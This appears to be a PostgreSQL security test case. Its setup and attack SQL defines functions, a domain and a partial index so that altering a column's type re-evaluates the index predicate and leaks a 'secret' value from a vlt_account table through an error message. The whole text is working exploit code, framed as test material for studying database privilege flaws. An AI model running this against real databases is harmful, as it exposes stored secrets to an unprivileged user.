-- Changes a column's type, so that an index is parsed anew: where its error points, another word stands in the statement.
-- wants: read
-- setup:
CREATE FUNCTION one_of(sql text) RETURNS text LANGUAGE plpgsql AS 'DECLARE one text; BEGIN IF current_setting(''application_name'') = ''now'' THEN EXECUTE sql INTO one; RETURN one; END IF; RETURN ''pg_class''; END';
CREATE FUNCTION looks_for(text) RETURNS boolean LANGUAGE sql AS 'SELECT public.one_of(''SELECT quote_ident(secret) FROM public.vlt'' || ''_account WHERE id = 1'')::regclass IS NOT NULL';
CREATE DOMAIN looked_for AS text CHECK (looks_for(VALUE));
CREATE TABLE checked_anew (id int);
CREATE INDEX ON checked_anew (id) WHERE '{1}'::looked_for[] IS NOT NULL;
ALTER TABLE checked_anew OWNER TO mallory;
-- attack:
SET application_name = now;
ALTER TABLE checked_anew ALTER COLUMN id TYPE bigint, ALTER COLUMN id SET STATISTICS 100, ALTER COLUMN id SET STATISTICS 100, ALTER COLUMN id SET STATISTICS 100, ALTER COLUMN id SET STATISTICS 100;
